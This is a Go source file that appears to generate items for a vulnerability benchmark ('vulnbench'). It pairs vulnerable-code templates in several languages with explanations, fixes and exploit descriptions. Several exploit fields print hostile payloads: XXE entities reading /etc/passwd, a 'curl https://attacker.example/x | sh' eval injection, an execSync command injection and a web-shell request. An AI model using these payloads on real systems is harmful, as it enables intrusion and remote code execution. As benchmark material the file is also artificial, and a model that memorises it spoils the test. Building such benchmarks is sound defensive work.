package appsec

// webAuthGenerators covers XXE, CSRF, hard-coded credentials, password hashing, broken
// algorithms, missing authentication, brute force, session fixation, open redirect, file upload,
// code injection and mass assignment, two languages each. Every snippet is written for vulnbench.
func webAuthGenerators() []Generator {
	var gs []Generator
	gs = append(gs, webAuthXMLAndCSRF()...)
	gs = append(gs, webAuthSecretsAndCrypto()...)
	gs = append(gs, webAuthAuthentication()...)
	gs = append(gs, webAuthRedirectUploadCode()...)
	return gs
}

func webAuthXMLAndCSRF() []Generator {
	return []Generator{
		{
			Archetype: "xml-external-entity", Language: "java", Framework: "jakarta-servlet",
			Levels:        []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath:      "src/main/java/com/example/{{.Entities}}/{{.EntityPascal}}ImportServlet.java",
			Explanation:   "The servlet parses the request body with a default DocumentBuilderFactory, which honours DOCTYPE declarations and resolves external entities; the parsed {{.Field}} text is echoed back, so entity contents leave the server in the response.",
			Exploit:       "POST {{.Endpoint}}/import with <!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><{{.Entity}}><{{.Field}}>&x;</{{.Field}}></{{.Entity}}> returns the file's contents; a SYSTEM URL of http://169.254.169.254/ turns the parser into an SSRF probe.",
			Fix:           "Build documents from a factory that forbids DOCTYPE declarations, enables secure processing and disables XInclude and entity expansion.",
			Remediation:   []string{"Set disallow-doctype-decl on every DocumentBuilderFactory, SAXParserFactory and XMLInputFactory.", "Centralise parser creation in one hardened factory and ban DocumentBuilderFactory.newInstance() elsewhere with a static-analysis rule.", "Prefer JSON for imports where XML is not required."},
			Preconditions: []string{"Network access to the import endpoint.", "The servlet container's JAXP implementation resolves external entities (the default)."},
		},
		{
			Archetype: "xml-external-entity", Language: "php", Framework: "plain-php",
			Levels:        []Difficulty{Beginner, Expert},
			FilePath:      "public/{{.Entities}}/feed-import.php",
			Explanation:   "LIBXML_NOENT substitutes entities and LIBXML_DTDLOAD fetches external DTDs, re-enabling the external entity resolution PHP 8 turns off by default; the substituted {{.Field}} values are echoed back in the JSON response.",
			Exploit:       "POST a feed with <!DOCTYPE f [<!ENTITY k SYSTEM \"php://filter/convert.base64-encode/resource=../../src/config.php\">]> and <{{.Field}}>&k;</{{.Field}}>; the response carries the base64 of the configuration file with its database password.",
			Fix:           "Parse without LIBXML_NOENT/LIBXML_DTDLOAD, forbid network access with LIBXML_NONET and reject any document that declares a DOCTYPE.",
			Remediation:   []string{"Never pass LIBXML_NOENT or LIBXML_DTDLOAD for untrusted XML.", "Reject documents with a DOCTYPE.", "Grep the code base for other loadXML/simplexml_load_string calls with these flags."},
			Preconditions: []string{"Network access to the feed import endpoint."},
		},
		{
			Archetype: "cross-site-request-forgery", Language: "ruby", Framework: "rails",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "app/controllers/{{.Entities}}_controller.rb",
			Explanation:   "The controller authenticates with the Devise session cookie but skips Rails' authenticity-token check for update and destroy, so a form on any other site can drive those actions with the victim's cookie.",
			Exploit:       "The attacker hosts an auto-submitting form that POSTs _method=delete to /{{.Entities}}/42; a signed-in user who opens the page deletes their {{.Entity}} without noticing.",
			Fix:           "Keep the authenticity-token check on every state-changing action (protect_from_forgery with: :exception) and send the token from forms and XHR via csrf_meta_tags.",
			Remediation:   []string{"Remove skip_before_action :verify_authenticity_token from cookie-authenticated controllers.", "Use token authentication, not cookies, for endpoints that genuinely need to skip the check.", "Set the session cookie SameSite=Lax or Strict as defence in depth."},
			Preconditions: []string{"The victim is signed in to the application.", "The victim visits an attacker-controlled page."},
		},
		{
			Archetype: "cross-site-request-forgery", Language: "java", Framework: "spring-boot",
			Levels:        []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath:      "src/main/java/com/example/{{.Entities}}/config/{{.EntityPascal}}SecurityConfig.java",
			Explanation:   "The application authenticates browsers with a form-login session cookie, yet CSRF protection is disabled for the whole filter chain, so cross-site requests to {{.Endpoint}} carry the session and are accepted.",
			Exploit:       "A manager opens a page with a hidden form that POSTs to https://{{.Host}}{{.Endpoint}}/7/approve (or a JSON-looking text/plain body); the browser sends the JSESSIONID cookie and the action runs as the manager.",
			Fix:           "Leave Spring Security's CSRF protection on for cookie-authenticated chains so state-changing requests need the synchronizer token rendered into forms.",
			Remediation:   []string{"Only disable CSRF on chains that authenticate with bearer tokens and never with cookies.", "Expose the token to single-page clients with CookieCsrfTokenRepository and send it in a header.", "Use SameSite=Lax session cookies as an additional layer."},
			Preconditions: []string{"The victim has an authenticated session.", "The victim loads attacker-controlled content in the same browser."},
		},
	}
}

func webAuthSecretsAndCrypto() []Generator {
	return []Generator{
		{
			Archetype: "hardcoded-credentials", Language: "csharp", Framework: "aspnet-core",
			Levels:        []Difficulty{Beginner, Intermediate, RealWorldEnterprise},
			FilePath:      "src/{{.EntitiesPascal}}.Api/Program.cs",
			Explanation:   "The SQL Server sa password and the partner API key are string literals in Program.cs, so everyone with the repository, a build artefact or a decompiled DLL holds production credentials, and rotating them needs a redeploy.",
			Exploit:       "An attacker who obtains the source or runs a decompiler on the published DLL reads Password=... and connects to sql.{{.Host}} as sa, or calls partner.{{.Host}} with the API key.",
			Fix:           "Read the connection string and the API key from configuration (user secrets in development, environment or a vault provider in production) and fail fast when they are missing.",
			Remediation:   []string{"Rotate the exposed sa password and API key now.", "Load secrets through IConfiguration backed by Key Vault or environment variables.", "Use a least-privilege database login instead of sa.", "Add secret scanning to the CI pipeline and purge the literals from history."},
			Preconditions: []string{"Read access to the source repository, a container image or the compiled assemblies.", "Network reachability of the database or partner API."},
		},
		{
			Archetype: "hardcoded-credentials", Language: "c", Framework: "libc",
			Levels:        []Difficulty{Intermediate, Expert},
			FilePath:      "src/{{.Entity}}_login.c",
			Explanation:   "A maintenance account with a fixed password is compiled into the login routine and grants the admin role without touching the user store; the literal is visible with strings(1) on every shipped binary and cannot be rotated per installation.",
			Exploit:       "Running strings on the firmware or package reveals {{.Entity}}_maint and its password; the attacker logs in to any deployed instance as administrator.",
			Fix:           "Remove the built-in account: maintenance users live in the same credential store as everyone else, with per-installation secrets and hashed passwords.",
			Remediation:   []string{"Delete compiled-in credentials and ship a first-boot provisioning step instead.", "Treat the leaked password as public and notify customers to update.", "Scan release binaries for embedded secrets before publishing."},
			Preconditions: []string{"Access to a copy of the binary (download, firmware image or installed package).", "Network access to a deployed instance's login."},
		},
		{
			Archetype: "weak-password-hashing", Language: "php", Framework: "plain-php",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "src/{{.EntityPascal}}UserStore.php",
			Explanation:   "Passwords are stored as unsalted MD5, a fast hash: identical passwords share a hash, rainbow tables reverse common ones instantly and a GPU tests billions of guesses per second against a leaked {{.Entity}}_users table.",
			Exploit:       "After dumping {{.Entity}}_users (SQL injection, a backup, a replica), the attacker runs hashcat -m 0 over the password_hash column and recovers most passwords within hours, then reuses them on other sites.",
			Fix:           "Hash with password_hash using Argon2id (or bcrypt) and check with password_verify, which salts per user and is deliberately slow.",
			Remediation:   []string{"Switch to password_hash/password_verify.", "Migrate existing MD5 hashes by rehashing on next login or wrapping them (argon2(md5)) immediately.", "Call password_needs_rehash to upgrade cost parameters over time."},
			Preconditions: []string{"The attacker obtains a copy of the password hashes."},
		},
		{
			Archetype: "weak-password-hashing", Language: "csharp", Framework: "aspnet-core",
			Levels:        []Difficulty{Advanced, Expert},
			FilePath:      "src/{{.EntitiesPascal}}.Identity/{{.EntityPascal}}PasswordService.cs",
			Explanation:   "Despite a per-user salt, a pepper and a constant-time comparison, each password is protected by a single SHA-256 invocation; the hash is fast, so an attacker holding the table and the pepper brute-forces it at GPU speed.",
			Exploit:       "With a database dump and the Auth:Pepper value from the same compromised host, hashcat in SHA-256(salt.pepper.pass) mode recovers weak and medium passwords of {{.Entity}} users in hours.",
			Fix:           "Derive the stored value with a slow, salted KDF (PBKDF2-HMAC-SHA256 with 600,000 iterations here, or Argon2id/ASP.NET Core Identity's PasswordHasher).",
			Remediation:   []string{"Use PBKDF2 with a high iteration count, bcrypt or Argon2id for passwords.", "Store the algorithm and cost with each hash so it can be upgraded on login.", "Keep the pepper in a separate secret store from the database."},
			Preconditions: []string{"The attacker obtains the password table (and, for full speed, the pepper)."},
		},
		{
			Archetype: "broken-crypto-algorithm", Language: "java", Framework: "jca",
			Levels:        []Difficulty{Beginner, Intermediate, Advanced},
			FilePath:      "src/main/java/com/example/{{.Entities}}/crypto/{{.EntityPascal}}FieldCipher.java",
			Explanation:   "{{.EntityPascal}} {{.Field}} values are encrypted with Triple DES in ECB mode: a 64-bit block cipher deprecated by NIST, no IV so equal plaintexts give equal ciphertexts, and no integrity, so stored values can be compared, spliced or altered undetected.",
			Exploit:       "An attacker with read access to the encrypted column groups identical ciphertext blocks to infer shared {{.Field}} values, and swaps 8-byte blocks between rows to forge values that decrypt cleanly.",
			Fix:           "Use AES-256-GCM with a fresh 96-bit random IV per message, stored with the ciphertext, so encryption is randomised and authenticated.",
			Remediation:   []string{"Replace DES/3DES/ECB with an AEAD (AES-GCM or ChaCha20-Poly1305).", "Re-encrypt existing data in a migration job.", "Keep the key in a KMS and rotate it with key versioning."},
			Preconditions: []string{"Read access to stored ciphertexts (database dump, backup or log)."},
		},
		{
			Archetype: "broken-crypto-algorithm", Language: "c", Framework: "openssl",
			Levels:        []Difficulty{Advanced, Expert},
			FilePath:      "src/{{.Entity}}_vault.c",
			Explanation:   "Each {{.Entity}} {{.Field}} is sealed with RC4 under the same long-term key and no nonce, so every record is XORed with the identical keystream; RC4 also has exploitable keystream biases and provides no integrity.",
			Exploit:       "XORing two sealed records cancels the keystream and leaves plaintext XOR plaintext; one known {{.Field}} (the attacker's own record) reveals the keystream and decrypts every other record of the same length, and bits can be flipped at will.",
			Fix:           "Seal with AES-256-GCM using a fresh random 96-bit IV per record, emitting IV || ciphertext || tag, and verify the tag on opening.",
			Remediation:   []string{"Remove RC4, DES and ECB ciphers from the code base (they need OpenSSL 3's legacy provider anyway).", "Use an AEAD with unique nonces per message.", "Re-encrypt existing records and rotate the key."},
			Preconditions: []string{"Access to several sealed records, and ideally one known plaintext (the attacker's own data)."},
		},
	}
}

func webAuthAuthentication() []Generator {
	return []Generator{
		{
			Archetype: "missing-authentication", Language: "typescript", Framework: "express",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "src/routes/{{.Entity}}-admin.ts",
			Explanation:   "Only the list route runs requireAuth; the bulk export and the delete routes of the {{.Entity}} admin router have no authentication middleware, so anonymous requests reach them.",
			Exploit:       "curl -X DELETE https://{{.Host}}{{.Endpoint}}/1 (and a loop over ids) deletes {{.Entities}} without any credentials; POST {{.Endpoint}}/export starts a full data export anonymously.",
			Fix:           "Attach requireAuth (and the admin role check) to every route of the router, or mount the router behind router.use(requireAuth) so new routes are covered by default.",
			Remediation:   []string{"Apply authentication at the router or app level with explicit public exceptions.", "Add a test that enumerates registered routes and asserts each is protected.", "Log and alert on destructive calls without a principal."},
			Preconditions: []string{"Network access to the API."},
		},
		{
			Archetype: "missing-authentication", Language: "java", Framework: "spring-boot",
			Levels:        []Difficulty{Advanced, RealWorldEnterprise},
			FilePath:      "src/main/java/com/example/{{.Entities}}/config/ApiSecurityConfig.java",
			Explanation:   "The \"internal\" {{.Entity}} API and every actuator endpoint are permitAll, on the assumption that only the service mesh reaches them; once the ingress or a neighbour routes to them, anyone can call the internal operations and read /actuator/env or /actuator/heapdump.",
			Exploit:       "From any foothold that reaches the pod (or through a mis-scoped ingress), GET /actuator/heapdump yields a heap with JWT signing material and database credentials, and POST {{.Prefix}}/internal/{{.Entities}}/rebuild runs without a token.",
			Fix:           "Require a service token with a dedicated scope for the internal API and expose only the health and info actuator endpoints anonymously.",
			Remediation:   []string{"Authenticate service-to-service calls (client-credentials JWT or mTLS) instead of trusting the network.", "Limit management.endpoints.web.exposure.include to health,info and serve management on a separate port.", "Review every permitAll matcher in code review."},
			Preconditions: []string{"Network path to the service (a foothold in the cluster or an ingress that forwards the paths)."},
		},
		{
			Archetype: "missing-brute-force-protection", Language: "typescript", Framework: "nestjs",
			Levels:        []Difficulty{Intermediate, Advanced},
			FilePath:      "src/auth/{{.Entity}}-auth.controller.ts",
			Explanation:   "The login handler checks a password on every request without limiting attempts per client or per account, so the endpoint answers an unbounded stream of guesses.",
			Exploit:       "The attacker sprays a list of leaked passwords against {{.Prefix}}/auth/login for known e-mail addresses at hundreds of requests per second until one returns tokens.",
			Fix:           "Throttle the route per client with @nestjs/throttler and track failures per account with progressive lockout or delay inside validateWithLockout.",
			Remediation:   []string{"Rate-limit login per IP and per account, with exponential back-off.", "Add MFA and breached-password checks.", "Alert on spikes of failed logins."},
			Preconditions: []string{"Network access to the login endpoint.", "Knowledge or guesses of valid account identifiers."},
		},
		{
			Archetype: "missing-brute-force-protection", Language: "php", Framework: "laravel",
			Levels:        []Difficulty{Intermediate, Expert},
			FilePath:      "routes/auth.php",
			Explanation:   "Password reset is throttled, but the password login and the two-factor challenge are not: both accept unlimited attempts, so passwords can be guessed and the six-digit TOTP code brute-forced within its validity window.",
			Exploit:       "After a credential-stuffing hit, the attacker replays POST /two-factor-challenge with codes 000000-999999 in parallel; without a limit the million-code space is covered well inside a session's lifetime.",
			Fix:           "Apply Laravel's throttle middleware to the login and two-factor routes (per-IP), and key a RateLimiter on the e-mail as well for per-account limits.",
			Remediation:   []string{"Throttle every authentication step, not only password reset.", "Define named limiters keyed on account and IP in AppServiceProvider.", "Invalidate the pending two-factor session after a few failures."},
			Preconditions: []string{"Network access to the login routes.", "For the two-factor attack, a valid password for the account."},
		},
		{
			Archetype: "session-fixation", Language: "java", Framework: "jakarta-servlet",
			Levels:        []Difficulty{Intermediate, Advanced},
			FilePath:      "src/main/java/com/example/{{.Entities}}/web/{{.EntityPascal}}LoginServlet.java",
			Explanation:   "After a successful login the servlet stores the user in whatever session the request already carried; the session id issued before authentication stays valid afterwards, so an id planted by an attacker becomes an authenticated session.",
			Exploit:       "The attacker obtains a JSESSIONID from the portal, plants it in the victim's browser (a ;jsessionid= link, a cookie set from a sibling subdomain), waits for the victim to log in, then uses the same id as the victim.",
			Fix:           "Invalidate the pre-login session and create a new one (or call request.changeSessionId()) before storing the authenticated identity.",
			Remediation:   []string{"Rotate the session id on every privilege change (login, role switch).", "Disable URL session tracking (tracking-mode COOKIE) and set HttpOnly, Secure, SameSite cookies.", "Prefer the container's or Spring Security's built-in login handling, which rotates the id."},
			Preconditions: []string{"The attacker can set or predict the victim's session id before login.", "The victim logs in with that session."},
		},
		{
			Archetype: "session-fixation", Language: "javascript", Framework: "express",
			Levels:        []Difficulty{Advanced, RealWorldEnterprise},
			FilePath:      "src/routes/{{.Entity}}-login.js",
			Explanation:   "express-session keeps the session id the browser presented before login; the handler writes userId into that same session, so a pre-login id known to an attacker becomes authenticated.",
			Exploit:       "The attacker visits the site to get a connect.sid, injects it into the victim's browser through a compromised sibling subdomain that sets a parent-domain cookie, and after the victim signs in reuses the cookie to act as the victim across the {{.Entities}} app.",
			Fix:           "Call req.session.regenerate() after verifying the credentials and store the identity in the new session before redirecting.",
			Remediation:   []string{"Regenerate the session on login and on privilege changes; destroy it on logout.", "Use __Host- prefixed, Secure, HttpOnly, SameSite cookies so sibling subdomains cannot set them.", "Expire idle and absolute session lifetimes server-side."},
			Preconditions: []string{"The attacker can plant a cookie in the victim's browser (sibling subdomain, XSS elsewhere or a network position).", "The victim logs in afterwards."},
		},
	}
}

func webAuthRedirectUploadCode() []Generator {
	return []Generator{
		{
			Archetype: "open-redirect", Language: "java", Framework: "spring-boot",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "src/main/java/com/example/{{.Entities}}/web/{{.EntityPascal}}TenantController.java",
			Explanation:   "The next parameter is appended to a redirect: view name without any check, so the application issues a 302 to whatever absolute or protocol-relative URL the link carries.",
			Exploit:       "A phishing mail links to https://{{.Host}}/{{.Entities}}/switch-tenant?tenant=acme&next=https://{{.Host}}.login-check.example/ — the trusted domain in the link redirects the victim to a look-alike login page that harvests credentials.",
			Fix:           "Redirect only to local paths: require a single leading slash, reject // and backslashes and control characters, otherwise fall back to a default page.",
			Remediation:   []string{"Accept only relative paths or ids mapped to known destinations for post-action redirects.", "Centralise redirect validation in one helper used by every controller.", "Add tests with //evil, /\\evil and https://evil inputs."},
			Preconditions: []string{"The victim follows an attacker-crafted link."},
		},
		{
			Archetype: "open-redirect", Language: "php", Framework: "plain-php",
			Levels:        []Difficulty{Intermediate, RealWorldEnterprise},
			FilePath:      "public/login.php",
			Explanation:   "The login page sends the browser to return_to after authentication without checking that it is a local path, so the trusted login flow ends on any site the link names.",
			Exploit:       "The attacker sends https://{{.Host}}/login.php?return_to=https://{{.Host}}.session-expired.example/login; the victim signs in on the genuine page, lands on the attacker's clone saying the session expired, and types the password again.",
			Fix:           "Accept return_to only when it is a single-slash local path without backslashes or control characters, otherwise use the default page.",
			Remediation:   []string{"Validate redirect targets before storing or using them.", "Where cross-domain returns are needed (SSO), match against an exact allow-list of origins.", "Log rejected redirect targets to spot phishing campaigns."},
			Preconditions: []string{"The victim follows an attacker-crafted login link and signs in."},
		},
		{
			Archetype: "unrestricted-file-upload", Language: "csharp", Framework: "aspnet-core",
			Levels:        []Difficulty{Advanced, RealWorldEnterprise},
			FilePath:      "src/{{.EntitiesPascal}}.Web/Controllers/{{.EntityPascal}}AttachmentsController.cs",
			Explanation:   "Attachments are written under wwwroot, which UseStaticFiles serves from the application's origin, using the client-supplied file name with no type, size or name checks; .html/.svg files run script as the app and ../ in the name writes outside the folder.",
			Exploit:       "A low-privileged user uploads invoice.html containing script (or names the part ../../wwwroot/js/site.js); every colleague who opens /uploads/{{.Entities}}/5/invoice.html runs the attacker's JavaScript with their session, and an overwritten site.js hits every page.",
			Fix:           "Store uploads outside the web root under server-generated names, allow only expected extensions, cap the size, and serve files through an authorised download action.",
			Remediation:   []string{"Never place user uploads under wwwroot.", "Generate storage names server-side and keep the original name only as metadata.", "Verify content signatures, scan files, and serve downloads with Content-Disposition: attachment and nosniff."},
			Preconditions: []string{"An authenticated account allowed to upload attachments.", "Other users or the site itself load files from /uploads."},
		},
		{
			Archetype: "unrestricted-file-upload", Language: "php", Framework: "laravel",
			Levels:        []Difficulty{Beginner, Intermediate},
			FilePath:      "app/Http/Controllers/{{.EntityPascal}}AttachmentController.php",
			Explanation:   "Any file type is accepted and stored on the public disk under its original name; storage/app/public is linked to public/storage, which PHP-FPM serves, so an uploaded .php file is executed on request.",
			Exploit:       "A user allowed to edit one {{.Entity}} uploads shell.php, then requests /storage/{{.Entities}}/12/shell.php?c=id and runs commands as the web server.",
			Fix:           "Validate the type and size with mimes/max rules and store with store() on a private disk, which generates a random name with an extension derived from the content.",
			Remediation:   []string{"Keep uploads on a non-public disk and stream them through an authorised controller.", "Never use getClientOriginalName() as the storage name.", "Configure the web server not to execute PHP under the storage directory."},
			Preconditions: []string{"An account authorised to update a {{.Entity}}."},
		},
		{
			Archetype: "code-injection", Language: "ruby", Framework: "rails",
			Levels:        []Difficulty{Advanced, Expert},
			FilePath:      "app/controllers/{{.Entity}}_pricing_controller.rb",
			Explanation:   "The pricing formula supplied by the client is passed to Kernel#eval with a binding that also exposes the controller, so any Ruby expression runs inside the Rails process, not just arithmetic on the {{.Entity}} inputs.",
			Exploit:       "A signed-in user POSTs formula=File.read('/proc/self/environ') or formula=system('curl https://attacker.example/x | sh') to the preview action and executes code on the application server.",
			Fix:           "Evaluate formulas with a dedicated expression engine (Dentaku) that supports only arithmetic and the named inputs, never eval.",
			Remediation:   []string{"Remove eval, instance_eval and send with user-controlled input.", "Use a sandboxed formula language with an explicit variable set.", "Add a RuboCop Security/Eval rule to CI."},
			Preconditions: []string{"Any authenticated account that can open a {{.Entity}} pricing preview."},
		},
		{
			Archetype: "code-injection", Language: "javascript", Framework: "express",
			Levels:        []Difficulty{Intermediate, Expert},
			FilePath:      "src/routes/{{.Entity}}-filter.js",
			Explanation:   "The where query parameter is compiled into a JavaScript function with new Function, which is eval: the expression runs with full Node.js privileges, not just as a filter over {{.Entities}}.",
			Exploit:       "GET {{.Endpoint}}/filter?where=process.mainModule.require('child_process').execSync('id').length>0 executes a shell command on the server; other payloads read environment secrets or open a reverse shell.",
			Fix:           "Replace dynamic code with a structured filter: an allow-listed field, an operator looked up in a fixed table, and a string value.",
			Remediation:   []string{"Ban eval, new Function and vm.runInContext on request data (eslint no-eval, no-new-func).", "Express filters as data (field/op/value) and validate each part.", "Run the service with least privilege to limit the blast radius."},
			Preconditions: []string{"Network access to the filter endpoint."},
		},
		{
			Archetype: "mass-assignment", Language: "typescript", Framework: "nestjs",
			Levels:        []Difficulty{Intermediate, Advanced, RealWorldEnterprise},
			FilePath:      "src/{{.Entities}}/{{.Entities}}.controller.ts",
			Explanation:   "The PATCH body is typed as Partial<{{.EntityPascal}}> but nothing validates it at runtime; Object.assign copies every property the client sends onto the TypeORM entity, including ownerId, approval flags or prices.",
			Exploit:       "The owner of {{.Entity}} 5 sends PATCH /{{.Entities}}/5 with {\"{{.Field}}\":\"x\",\"ownerId\":77,\"approved\":true}; the record is approved without review or moved into another account.",
			Fix:           "Bind the body to a DTO listing the editable fields and run ValidationPipe with whitelist and forbidNonWhitelisted before merging it into the entity.",
			Remediation:   []string{"Use explicit update DTOs per use case; never bind request bodies to entities.", "Enable a global ValidationPipe with whitelist: true.", "Add tests that send protected properties and expect 400."},
			Preconditions: []string{"An authenticated account that owns at least one {{.Entity}}."},
		},
		{
			Archetype: "mass-assignment", Language: "csharp", Framework: "aspnet-core",
			Levels:        []Difficulty{Advanced, Expert},
			FilePath:      "src/{{.EntitiesPascal}}.Api/Controllers/{{.EntitiesPascal}}Controller.cs",
			Explanation:   "The action binds the request body to the EF Core entity and copies all of its scalar values with CurrentValues.SetValues; the ownership check passes, but every column the client sends, including OwnerId, status or price fields, overwrites the stored row.",
			Exploit:       "The owner of {{.Entity}} 9 sends PUT {{.Endpoint}}/9 with {\"description\":\"x\",\"ownerId\":\"<victim id>\",\"isApproved\":true}; the record is marked approved or planted in another tenant's account.",
			Fix:           "Bind to a request record with only the editable properties and copy them onto the tracked entity explicitly.",
			Remediation:   []string{"Never bind entities directly from requests; use input models per action.", "Review SetValues, TryUpdateModelAsync without an include list and AutoMapper maps onto entities.", "Return an output DTO instead of the entity."},
			Preconditions: []string{"An authenticated account that owns at least one {{.Entity}}."},
		},
	}
}
